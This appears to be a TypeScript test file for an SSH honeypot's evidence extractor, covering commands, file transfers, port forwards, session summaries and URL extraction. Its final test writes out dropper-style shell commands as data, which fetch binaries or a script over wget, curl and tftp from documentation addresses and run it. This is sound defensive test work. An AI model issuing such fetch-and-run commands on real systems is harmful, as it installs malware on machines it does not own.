import assert from "node:assert/strict";
import { test } from "node:test";
import { EvidenceCollector, extractEvidence, MOST_OBSERVATIONS } from "../../gateway/evidence/extract.ts";
import type { Observation } from "../../gateway/evidence/observation.ts";
import { SessionObserver } from "../../gateway/evidence/session-observer.ts";
import { fetchedFiles } from "../../gateway/evidence/urls.ts";
import type { Entry } from "../../gateway/model/entries.ts";
import { buildChannelOpenFailure } from "../../gateway/ssh/messages/channel-open.ts";
import { buildGlobalRequest } from "../../gateway/ssh/messages/global.ts";
import { string, u32 } from "../../gateway/ssh/messages/writer.ts";
import { Conversation } from "./conversation.ts";

function observe(entries: readonly Entry[]): Observation[] {
  const observer = new SessionObserver();
  return [...entries.flatMap((entry) => observer.push(entry)), ...observer.end()];
}

function of<K extends Observation["kind"]>(
  entries: readonly Entry[],
  kind: K,
): Extract<Observation, { kind: K }>[] {
  return observe(entries).filter((one): one is Extract<Observation, { kind: K }> => one.kind === kind);
}

test("each observation cites its entry and time", () => {
  const talk = new Conversation().login();
  const channel = talk.after(700).open();
  const at = talk.entries.length;
  talk.exec(channel, "id");
  const [command] = of(talk.entries, "command");
  assert.equal(command?.entry, at);
  assert.equal(command.at, 740_000_000n);
  assert.equal(command.channel, 1);
});

test("channels that run at once are kept apart", () => {
  const talk = new Conversation().login();
  const [first, second] = [talk.open(), talk.open()];
  talk.exec(first, "scp -t /a").exec(second, "scp -t /b");
  talk
    .sends(first, "C0644 4 x\nAA")
    .sends(second, "C0644 4 x\nBB")
    .sends(second, "BB\0")
    .sends(first, "AA\0");
  assert.deepEqual(
    of(talk.entries, "transfer").map(({ path, channel, whole }) => [path, channel, whole]),
    [
      ["/b", 2, true],
      ["/a", 1, true],
    ],
  );
});

test("a channel number is used again by another channel", () => {
  const talk = new Conversation().login();
  const first = talk.open();
  talk.exec(first, "bash").sends(first, "echo one\n").exits(first, 4);
  const second = talk.open();
  talk.exec(second, "cat").sends(second, "no command\n").exits(second, 0);
  assert.deepEqual(
    of(talk.entries, "command").map(({ text, way }) => [way, text]),
    [
      ["exec", "bash"],
      ["shell", "echo one"],
      ["exec", "cat"],
    ],
  );
  assert.deepEqual(
    of(talk.entries, "channel-closed").map(({ channel, exitStatus, received }) => [
      channel,
      exitStatus,
      received,
    ]),
    [
      [1, 4, 9],
      [2, 0, 11],
    ],
  );
});

test("forwards, listening and what is sent into them", () => {
  const talk = new Conversation().login();
  const forward = talk.forward("mail.example", 25);
  for (let message = 0; message < 40; message++) talk.sends(forward, "x".repeat(5000));
  talk.gets(forward, "220 hello");
  talk.packet("downstream", buildGlobalRequest("tcpip-forward", true, string("0.0.0.0"), u32(8080)));
  talk.packet("downstream", Buffer.from([90]));
  assert.deepEqual(
    of(talk.entries, "forward").map(({ host, port, originatorPort }) => [host, port, originatorPort]),
    [["mail.example", 25, 40000]],
  );
  const data = of(talk.entries, "forward-data");
  assert.equal(data.length, 32);
  assert.deepEqual([data[0]?.data.length, data[0]?.size], [4096, 5000]);
  assert.deepEqual(
    of(talk.entries, "listen").map(({ host, port }) => [host, port]),
    [["0.0.0.0", 8080]],
  );
  assert.equal(of(talk.entries, "unreadable").length, 1);
});

test("a channel that was refused is over", () => {
  const talk = new Conversation().login();
  const before = talk.entries.length;
  talk.forward("203.0.113.9", 80);
  talk.entries.length = before + 1; // without the confirmation
  const collector = new EvidenceCollector();
  for (const entry of talk.entries) collector.push(entry);
  const failure = buildChannelOpenFailure(0, 2, "Connection refused");
  const told = collector.push({ type: "packet", at: 1n, from: "upstream", channel: 1, payload: failure });
  assert.deepEqual(
    told.map(({ kind }) => kind),
    ["channel-closed"],
  );
});

test("the summary counts what happened", async () => {
  const talk = new Conversation()
    .hello()
    .password("a", "1", "refused")
    .password("root", "2", "accepted")
    .leased();
  const channel = talk.open();
  talk.exec(channel, "id").gets(channel, "uid=0(root)\n").exits(channel, 0);
  const { summary } = await extractEvidence(talk.whole("sandbox-closed"));
  assert.equal(summary.user, "root");
  assert.equal(summary.password, "2");
  assert.equal(summary.loggedIn, true);
  assert.deepEqual(
    [summary.attempts, summary.channels, summary.commands, summary.endReason],
    [2, 1, 1, "sandbox-closed"],
  );
  assert.ok(summary.received > 0 && summary.sent > 0);
});

test("a flood of commands is counted whole and kept in part", async () => {
  const talk = new Conversation().login();
  const channel = talk.open();
  talk.exec(channel, "sh");
  for (let line = 0; line < 300; line++) talk.sends(channel, "echo a\n".repeat(100));
  const { summary, observations, leftOut } = await extractEvidence(talk.whole());
  assert.equal(summary.commands, 30_001);
  assert.equal(observations.length, MOST_OBSERVATIONS + 1);
  assert.equal(observations.at(-1)?.kind, "session-ended");
  assert.ok(leftOut > 9000);
});

test("random payloads on known and unknown channels neither throw nor stop the reading", () => {
  let seed = 3;
  const random = () => (seed = (seed * 48271) % 2147483647);
  for (let round = 0; round < 100; round++) {
    const talk = new Conversation().login();
    const shell = talk.open();
    talk.shell(shell);
    const sftp = talk.open();
    talk.request(sftp, "subsystem", string("sftp"));
    for (let step = 0; step < 100; step++) {
      const payload = Buffer.from(Array.from({ length: 1 + (random() % 60) }, () => random() % 256));
      payload[0] = 80 + (random() % 21);
      if (payload.length > 9 && random() % 2 === 0) {
        // Make it look like data for a channel that there is.
        payload.writeUInt32BE(random() % 3, 1);
        payload.writeUInt32BE(payload.length - 9, 5);
        payload[0] = 94;
      }
      talk.packet(random() % 2 === 0 ? "downstream" : "upstream", payload);
    }
    assert.equal(of(talk.whole(), "session-ended").length, 1);
  }
});

test("URLs in commands are matched with the names that they leave behind", () => {
  const talk = new Conversation().login();
  for (const command of [
    "cd /tmp; wget http://203.0.113.9/bins/x86 || curl -O http://203.0.113.9/bins/arm7",
    "curl -s https://a.example/i.sh -o /tmp/run.sh; sh /tmp/run.sh",
    "curl http://a.example/p?q=1 > page",
    "wget ftp://a.example/",
    "tftp -g -r m 203.0.113.9",
  ])
    talk.exec(talk.open(), command);
  assert.deepEqual(Object.fromEntries(fetchedFiles(observe(talk.entries))), {
    x86: "http://203.0.113.9/bins/x86",
    arm7: "http://203.0.113.9/bins/arm7",
    "run.sh": "https://a.example/i.sh",
    page: "http://a.example/p?q=1",
    "index.html": "ftp://a.example/",
  });
});
